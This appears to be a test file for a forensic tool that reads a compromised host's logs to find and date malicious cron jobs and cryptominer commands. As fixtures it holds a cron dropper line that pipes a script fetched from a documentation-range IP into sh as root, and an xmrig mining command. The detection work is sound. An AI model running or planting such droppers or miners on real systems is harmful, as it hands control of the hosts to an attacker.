import { describe, expect, test } from 'bun:test';
import type { LogEvent } from '../model/facts/event.ts';
import { at, event, text } from './incident.fixture.ts';
import { LogScene } from './log-scene.ts';

const job = (when: string, command: string, account = 'root'): LogEvent =>
  event(when, { what: 'job', scheduler: 'cron', account: text(account), command: text(command) });
const typed = (when: string, command: string): LogEvent =>
  event(when, { what: 'command', origin: 'history', account: text('root'), command: text(command) });

const nowUs = at('2024-03-20 00:00:00');
function sceneOf(events: readonly LogEvent[]) {
  const scene = new LogScene();
  for (const one of events) scene.see(one);
  return scene.conclude(nowUs);
}

const dropper = 'curl -fsSL http://192.0.2.66/x.sh | sh';

describe('the scene of a host of which only logs are left', () => {
  test('is empty where its scheduler ran what is honest, and people typed what people type', () => {
    const scene = sceneOf([
      job('2024-03-01 00:17:00', 'cd / && run-parts --report /etc/cron.hourly'),
      job('2024-03-01 00:20:00', '/usr/lib/sysstat/sa1 1 1'),
      job('2024-03-01 03:00:00', 'curl -fsS https://hc.example.net/ping/1 >/dev/null'),
      job('2024-03-01 04:00:00', 'pg_dump shop | gzip > /var/backups/shop.gz', 'postgres'),
      typed('2024-03-01 10:00:00', 'curl -fsSL https://get.example.com | sh'),
      typed('2024-03-01 10:00:01', 'apt-get install nginx'),
    ]);
    expect(scene).toMatchObject({ files: [], entries: [], miners: [] });
  });

  test('has the job that fetches and runs, dated by its first run, and the address that it names', () => {
    const scene = sceneOf([
      job('2024-03-01 00:00:00', '/usr/bin/true'),
      job('2024-03-10 02:35:00', dropper),
      job('2024-03-10 02:34:00', dropper),
      job('2024-03-10 02:36:00', dropper),
    ]);
    expect(scene.entries).toHaveLength(1);
    expect(scene.entries[0]).toMatchObject({
      account: 'root',
      command: dropper,
      changedUs: at('2024-03-10 02:34:00'),
    });
    expect([...scene.addresses]).toEqual(['192.0.2.66']);
  });

  test('does not date a job that may have been there before its log began', () => {
    const everyMinute = sceneOf([job('2024-03-10 00:00:00', dropper), job('2024-03-10 00:01:00', dropper)]);
    expect(everyMinute.entries[0]?.changedUs).toBeUndefined();
    // Once a day: its first run within the first day says nothing.
    const daily = [job('2024-03-10 00:00:00', '/usr/bin/true'), job('2024-03-10 23:00:00', dropper)];
    expect(sceneOf(daily).entries[0]?.changedUs).toBeUndefined();
    const late = [job('2024-03-08 00:00:00', '/usr/bin/true'), job('2024-03-10 23:00:00', dropper)];
    expect(sceneOf(late).entries[0]?.changedUs).toBe(at('2024-03-10 23:00:00'));
  });

  test('dates a job whose table was written just before, by whoever it was', () => {
    const written = (when: string, table: string, action: 'replaced' | 'listed' = 'replaced'): LogEvent =>
      event(when, { what: 'table', action, by: text('root'), table: text(table) });
    const when = '2024-03-10 02:35:00';
    const datedBy = (...before: readonly LogEvent[]) =>
      sceneOf([...before, job(when, dropper)]).entries[0]?.changedUs;
    expect(datedBy(written('2024-03-10 02:34:30', 'root'))).toBe(at(when));
    expect(datedBy(written('2024-03-10 02:34:30', '/etc/cron.d/x'))).toBe(at(when));
    expect(datedBy(written('2024-03-10 02:34:30', 'ada'))).toBeUndefined();
    expect(datedBy(written('2024-03-10 02:34:30', 'root', 'listed'))).toBeUndefined();
    // It ran before that.
    const earlier = [job('2024-03-10 02:34:00', dropper), written('2024-03-10 02:34:30', 'root')];
    expect(datedBy(...earlier)).toBeUndefined();
  });

  test('dates a job by what else its log has from before, and says that no file was seen', () => {
    const login = event('2024-03-10 02:00:00', { what: 'message', program: text('sshd') });
    const runs = [job('2024-03-10 02:35:00', dropper), job('2024-03-10 02:36:00', dropper)];
    expect(sceneOf([login, ...runs]).entries[0]).toMatchObject({
      changedUs: at('2024-03-10 02:35:00'),
      ungrounded: true,
    });
    const elsewhere = { ...login, source: { source: text('/var/log/auth.log'), line: 1 } };
    expect(sceneOf([elsewhere, ...runs]).entries[0]?.changedUs).toBeUndefined();
  });

  test('has a typed command where it is a miner’s', () => {
    const scene = sceneOf([
      typed(
        '2024-03-10 10:00:00',
        './xmrig -o stratum+tcp://pool.example.net:3333 -u wallet -p x --donate-level 1',
      ),
    ]);
    expect(scene.entries[0]).toMatchObject({ account: 'root', changedUs: at('2024-03-10 10:00:00') });
  });

  test('stays small and in its bounds, however many and long the commands are', () => {
    const many = Array.from({ length: 5_000 }, (_, n) => job('2024-03-01 00:00:00', `/usr/bin/job-${n}`));
    const scene = sceneOf([
      ...many,
      job('2024-03-10 00:00:00', `${dropper} # ${'x'.repeat(1_000_000)}\x1b[2J`),
    ]);
    expect(scene.entries).toHaveLength(1);
    expect(JSON.stringify(scene.entries).length).toBeLessThan(5_000);
  });
});
